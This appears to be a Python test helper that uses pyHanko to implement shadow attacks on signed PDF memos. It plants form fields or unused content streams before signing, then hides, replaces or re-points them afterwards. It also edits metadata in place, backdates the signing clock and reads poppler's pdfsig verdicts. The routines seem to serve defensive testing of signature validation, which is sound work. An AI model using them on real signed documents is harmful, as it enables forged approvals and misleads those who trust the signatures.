"""Attacks on a memo's sign-off, built as an attacker would with a PDF library (issue 30).

Shadow attacks (Mainka, Mladenov, Rohlmann: "Shadow Attacks: Hiding and Replacing Content in
Signed PDFs", NDSS 2021) plant something in the document before it is signed that can legally
change afterwards: here a text field and its widget, drawn over page 1. Then, after a signature:
hide (the planted widget is made invisible, uncovering what it hid), replace (the planted field is
filled with other text) and hide-and-replace (a planted, hidden widget is filled and shown).
Metadata is edited the way a PDF editor does, in place (the same object, a later revision), and
in the XMP packet. A moved clock is pyHanko's own clock, set for one signature.
"""

from __future__ import annotations

import re
import shutil
import subprocess
from contextlib import contextmanager
from datetime import datetime
from io import BytesIO
from pathlib import Path

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign.signers import pdf_signer

FIELD_RECT = (300, 700, 560, 730)  # over page 1's right-hand top: where the decision is
VISIBLE, HIDDEN = 4, 2  # widget /F flags: Print, Hidden (ISO 32000-1, table 165)


class _EditorWriter(IncrementalPdfFileWriter):
    """An incremental writer that writes what it is given: pyHanko's own would also stamp /Info and
    regenerate the XMP packet (its producer and dates), which another PDF editor need not do."""

    def _update_meta(self) -> None:
        pass


def _done(writer: IncrementalPdfFileWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _appearance(writer: IncrementalPdfFileWriter, text: str) -> generic.IndirectObject:
    """An opaque white box with `text` in Helvetica: a widget's normal appearance."""
    width, height = FIELD_RECT[2] - FIELD_RECT[0], FIELD_RECT[3] - FIELD_RECT[1]
    font = writer.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Font"),
                pdf_name("/Subtype"): pdf_name("/Type1"),
                pdf_name("/BaseFont"): pdf_name("/Helvetica"),
            }
        )
    )
    content = f"1 1 1 rg 0 0 {width} {height} re f 0 g BT /Helv 14 Tf 4 9 Td ({text}) Tj ET".encode(
        "latin-1"
    )
    stream = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(map(generic.FloatObject, (0, 0, width, height))),
            pdf_name("/Resources"): generic.DictionaryObject(
                {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/Helv"): font})}
            ),
        },
        stream_data=content,
    )
    return writer.add_object(stream)


def _field_refs(writer: IncrementalPdfFileWriter) -> dict[str, generic.IndirectObject]:
    fields = writer.root["/AcroForm"]["/Fields"]
    refs = [fields.raw_get(index) for index in range(len(fields))]
    return {str(ref.get_object().get("/T")): ref for ref in refs}


def add_text_field(
    pdf: bytes, name: str, *, value: str = "", shown: str = "", flags: int = VISIBLE
) -> bytes:
    """An incremental update adding a text field with a widget over page 1."""
    writer = _EditorWriter(BytesIO(pdf))
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    while "/Kids" in page_ref.get_object():
        page_ref = page_ref.get_object()["/Kids"].raw_get(0)
    field = writer.add_object(
        generic.DictionaryObject(
            {
                pdf_name("/FT"): pdf_name("/Tx"),
                pdf_name("/T"): generic.TextStringObject(name),
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Widget"),
                pdf_name("/Rect"): generic.ArrayObject(map(generic.FloatObject, FIELD_RECT)),
                pdf_name("/F"): generic.NumberObject(flags),
                pdf_name("/P"): page_ref,
                pdf_name("/V"): generic.TextStringObject(value),
                pdf_name("/DA"): generic.TextStringObject("/Helv 14 Tf 0 g"),
                pdf_name("/AP"): generic.DictionaryObject(
                    {pdf_name("/N"): _appearance(writer, shown)}
                ),
            }
        )
    )
    acroform_ref = writer.root.raw_get("/AcroForm")
    writer.root["/AcroForm"]["/Fields"].append(field)
    if isinstance(acroform_ref, generic.IndirectObject):
        writer.mark_update(acroform_ref)
    writer.update_root()
    page = page_ref.get_object()
    annots = page.raw_get("/Annots") if "/Annots" in page else None
    if isinstance(annots, generic.IndirectObject):
        annots.get_object().append(field)
        writer.mark_update(annots)
    else:
        page[pdf_name("/Annots")] = generic.ArrayObject([*(annots or []), field])
    writer.mark_update(page_ref)
    return _done(writer)


def change_field(
    pdf: bytes,
    name: str,
    *,
    value: str | None = None,
    shown: str | None = None,
    flags: int | None = None,
) -> bytes:
    """An incremental update rewriting field `name` in place: its value, appearance or flags."""
    writer = _EditorWriter(BytesIO(pdf))
    ref = _field_refs(writer)[name]
    field = ref.get_object()
    if value is not None:
        field[pdf_name("/V")] = generic.TextStringObject(value)
    if shown is not None:
        field[pdf_name("/AP")] = generic.DictionaryObject(
            {pdf_name("/N"): _appearance(writer, shown)}
        )
    if flags is not None:
        field[pdf_name("/F")] = generic.NumberObject(flags)
    writer.mark_update(ref)
    return _done(writer)


def plant_unused_content(pdf: bytes, text: str) -> tuple[bytes, int]:
    """Hide-and-replace by cross-reference: a page content stream no page uses, carried by the
    document before it is signed; returns the memo and the stream's object number."""
    writer = _EditorWriter(BytesIO(pdf))
    stream = writer.add_object(
        generic.StreamObject(stream_data=f"BT /F1 24 Tf 72 420 Td ({text}) Tj ET".encode("latin-1"))
    )
    return _done(writer), stream.idnum


def point_page_at(pdf: bytes, idnum: int) -> bytes:
    """After signing: page 1's content becomes the planted stream (no new object is written)."""
    writer = _EditorWriter(BytesIO(pdf))
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    while "/Kids" in page_ref.get_object():
        page_ref = page_ref.get_object()["/Kids"].raw_get(0)
    page_ref.get_object()[pdf_name("/Contents")] = generic.IndirectObject(idnum, 0, writer)
    writer.mark_update(page_ref)
    return _done(writer)


def edit_info_in_place(pdf: bytes, key: str, value: str) -> bytes:
    """Rewrite the document information dictionary as the same object in a later revision."""
    writer = _EditorWriter(BytesIO(pdf))
    ref = writer.trailer.raw_get("/Info")
    ref.get_object()[pdf_name(key)] = generic.TextStringObject(value)
    writer.mark_update(ref)
    return _done(writer)


def xmp_packet(title: str, description: str) -> bytes:
    return (
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
        'rdf:about="" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li '
        'xml:lang="x-default">'
        f"{title}</rdf:li></rdf:Alt></dc:title><dc:description><rdf:Alt><rdf:li "
        'xml:lang="x-default">'
        f"{description}</rdf:li></rdf:Alt></dc:description></rdf:Description></rdf:RDF></x:xmpmeta>"
        '<?xpacket end="w"?>'
    ).encode()


def set_xmp(pdf: bytes, packet: bytes) -> bytes:
    """Give the catalogue an XMP /Metadata stream, or rewrite the one it has in place."""
    writer = _EditorWriter(BytesIO(pdf))
    current = writer.root.raw_get("/Metadata") if "/Metadata" in writer.root else None
    stream = generic.StreamObject(
        {pdf_name("/Type"): pdf_name("/Metadata"), pdf_name("/Subtype"): pdf_name("/XML")},
        stream_data=packet,
    )
    if isinstance(current, generic.IndirectObject):
        writer.mark_update(current)  # the same object number, its new body in this revision
        writer.objects[(current.generation, current.idnum)] = stream
    else:
        writer.root[pdf_name("/Metadata")] = writer.add_object(stream)
        writer.update_root()
    return _done(writer)


@contextmanager
def moved_clock(monkeypatch, at: datetime):
    """pyHanko's signing clock set to `at` (an aware datetime) while signing."""

    class MovedClock(datetime):
        @classmethod
        def now(cls, tz=None):  # noqa: ANN206 (datetime's own signature)
            return at.astimezone(tz) if tz is not None else at.replace(tzinfo=None)

    with monkeypatch.context() as patch:
        patch.setattr(pdf_signer, "datetime", MovedClock)
        yield


def pdfsig_output(pdf: bytes, folder: Path) -> str | None:
    """What poppler's pdfsig prints for `pdf`; None where pdfsig is not installed."""
    tool = shutil.which("pdfsig")
    if tool is None:
        return None
    path = folder / "pdfsig-input.pdf"
    path.write_bytes(pdf)
    done = subprocess.run(
        [tool, str(path)], capture_output=True, text=True, timeout=60, check=False
    )
    return done.stdout


def pdfsig(pdf: bytes, folder: Path) -> list[str] | None:
    """pdfsig's verdict on each signature ("Signature is Valid." ...), None without pdfsig."""
    out = pdfsig_output(pdf, folder)
    return None if out is None else re.findall(r"Signature Validation: (.*)", out)


def pdfsig_whole_file(pdf: bytes, folder: Path) -> list[bool]:
    """Per signature, whether pdfsig says it covers the whole file ("Total document signed")."""
    out = pdfsig_output(pdf, folder) or ""
    return [
        line.strip() == "- Total document signed"
        for line in out.splitlines()
        if "document signed" in line
    ]
